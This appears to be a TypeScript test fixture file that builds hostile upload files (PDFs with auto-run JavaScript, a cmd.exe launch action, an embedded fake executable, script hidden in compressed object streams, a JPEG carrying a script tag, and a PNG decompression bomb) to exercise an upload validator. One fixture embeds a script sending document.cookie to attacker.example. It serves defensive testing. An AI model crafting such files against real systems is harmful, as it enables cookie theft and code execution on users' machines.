import { crc32, deflateSync } from 'node:zlib';
import { demoPdf } from '../../../src-server/seed/demo-documents.seed';
import { jpegFile } from '../../support/document-files';

/**
 * Files an attacker would send, built in code so each test shows what its bytes are. Every PDF here
 * is well formed (offsets, xref, trailer): poppler's `pdfinfo` reads each, and `pdfinfo -js` prints
 * the script hidden in the object stream.
 */

const PAGE = '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] >>';
const PAGES = '<< /Type /Pages /Kids [3 0 R] /Count 1 >>';

/** A classic PDF (xref table) of the given objects, numbered from 1; object 1 is the catalog. */
export function pdfOf(objects: string[]): Buffer {
  let body = '%PDF-1.7\n%\xe2\xe3\xcf\xd3\n';
  const offsets: number[] = [];
  objects.forEach((object, index) => {
    offsets.push(body.length);
    body += `${index + 1} 0 obj\n${object}\nendobj\n`;
  });
  const xref = body.length;
  body += `xref\n0 ${objects.length + 1}\n0000000000 65535 f \n${offsets.map((offset) => `${String(offset).padStart(10, '0')} 00000 n \n`).join('')}`;
  body += `trailer\n<< /Size ${objects.length + 1} /Root 1 0 R >>\nstartxref\n${xref}\n%%EOF\n`;
  return Buffer.from(body, 'latin1');
}

/** A one-page PDF whose catalog opens with `action` (object 4). */
export function pdfOpening(action: string): Buffer {
  return pdfOf(['<< /Type /Catalog /Pages 2 0 R /OpenAction 4 0 R >>', PAGES, PAGE, action]);
}

/** Runs script when opened. */
export const openActionJavaScript = () => pdfOpening('<< /Type /Action /S /JavaScript /JS (app.alert\\(1\\)) >>');
/** The same, with the names written in #xx escapes, which every reader decodes. */
export const hexEscapedJavaScript = () => pdfOpening('<< /Type /Action /S /J#61vaScript /J#53 (app.alert\\(1\\)) >>');
/** Starts a program when opened. */
export const launchAction = () => pdfOpening('<< /Type /Action /S /Launch /F (cmd.exe) >>');

/** Carries a file inside it (the EmbeddedFiles name tree and an EmbeddedFile stream). */
export function embeddedFile(): Buffer {
  const payload = 'MZ pretend executable';
  return pdfOf([
    '<< /Type /Catalog /Pages 2 0 R /Names << /EmbeddedFiles << /Names [(invoice.exe) 4 0 R] >> >> >>',
    PAGES,
    PAGE,
    '<< /Type /Filespec /F (invoice.exe) /EF << /F 5 0 R >> >>',
    `<< /Type /EmbeddedFile /Length ${payload.length} >>\nstream\n${payload}\nendstream`,
  ]);
}

/**
 * Script hidden in a Flate-compressed object stream (PDF 1.5): the raw bytes never spell a name,
 * only the inflated stream does. Object 4 (the catalog's name dictionary) lives in object
 * stream 5; the xref stream (object 6) points into it, as Acrobat or qpdf would write it.
 */
export const javaScriptInObjectStream = () => pdfWithObjectStream('<< /JavaScript << /Names [(open) << /S /JavaScript /JS (app.alert\\(1\\)) >>] >> >>');

/** A PDF 1.5 whose catalog's name dictionary (object 4) is `names`, compressed in an object stream. */
export function pdfWithObjectStream(names: string): Buffer {
  const compressed = [names];
  const index = '4 0 ';
  const objectStream = deflateSync(Buffer.from(index + compressed[0], 'latin1'));
  let body = Buffer.from('%PDF-1.7\n%\xe2\xe3\xcf\xd3\n', 'latin1');
  const offsets: number[] = [];
  const add = (text: string | Buffer) => {
    body = Buffer.concat([body, typeof text === 'string' ? Buffer.from(text, 'latin1') : text]);
  };
  for (const [number, object] of [
    [1, '<< /Type /Catalog /Pages 2 0 R /Names 4 0 R >>'],
    [2, PAGES],
    [3, PAGE],
  ] as const) {
    offsets[number] = body.length;
    add(`${number} 0 obj\n${object}\nendobj\n`);
  }
  offsets[5] = body.length;
  add(`5 0 obj\n<< /Type /ObjStm /N 1 /First ${index.length} /Filter /FlateDecode /Length ${objectStream.length} >>\nstream\n`);
  add(objectStream);
  add('\nendstream\nendobj\n');
  offsets[6] = body.length;
  // Cross-reference stream rows: type (1 byte), offset or object stream (4), generation or index (2).
  const row = (type: number, field2: number, field3: number) => {
    const bytes = Buffer.alloc(7);
    bytes.writeUInt8(type, 0);
    bytes.writeUInt32BE(field2, 1);
    bytes.writeUInt16BE(field3, 5);
    return bytes;
  };
  const rows = deflateSync(Buffer.concat([row(0, 0, 65535), row(1, offsets[1], 0), row(1, offsets[2], 0), row(1, offsets[3], 0), row(2, 5, 0), row(1, offsets[5], 0), row(1, offsets[6], 0)]));
  add(`6 0 obj\n<< /Type /XRef /Size 7 /W [1 4 2] /Root 1 0 R /Filter /FlateDecode /Length ${rows.length} >>\nstream\n`);
  add(rows);
  add(`\nendstream\nendobj\nstartxref\n${offsets[6]}\n%%EOF\n`);
  return body;
}

/** A PDF whose page text reads `<script>` some 80 KB in, past any "first 64 KB" check. */
export function pdfWithScriptFarIn(): Buffer {
  const filler = Array.from({ length: 2000 }, (_, line) => `Transaction ${line}: card payment, Leeds`);
  return demoPdf([...filler, '<script>fetch(\'https://attacker.example/\'+document.cookie)</script>']);
}

/** A JPEG with `<script>` at `offset`, after its header (in padding a viewer skips). */
export function jpegWithScriptAt(offset: number): Buffer {
  const header = jpegFile(1024, 768);
  const image = header.subarray(0, header.length - 2);
  const padding = Buffer.alloc(offset - image.length, 0x55);
  return Buffer.concat([image, padding, Buffer.from('<script>alert(1)</script>'), Buffer.alloc(1024, 0x55), Buffer.from([0xff, 0xd9])]);
}

/** A small PNG whose header claims `width` × `height`: opening it would take gigabytes. */
export function pngClaiming(width: number, height: number): Buffer {
  const chunk = (type: string, data: Buffer) => {
    const length = Buffer.alloc(4);
    length.writeUInt32BE(data.length);
    const typed = Buffer.concat([Buffer.from(type, 'ascii'), data]);
    const crc = Buffer.alloc(4);
    crc.writeUInt32BE(crc32(typed));
    return Buffer.concat([length, typed, crc]);
  };
  const header = Buffer.alloc(13);
  header.writeUInt32BE(width, 0);
  header.writeUInt32BE(height, 4);
  header.set([8, 0, 0, 0, 0], 8);
  // A first run of zeros; a real bomb would carry gigabytes of them at 1000:1.
  const rows = deflateSync(Buffer.alloc(1024 * 1024));
  return Buffer.concat([Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]), chunk('IHDR', header), chunk('IDAT', rows), chunk('IEND', Buffer.alloc(0))]);
}
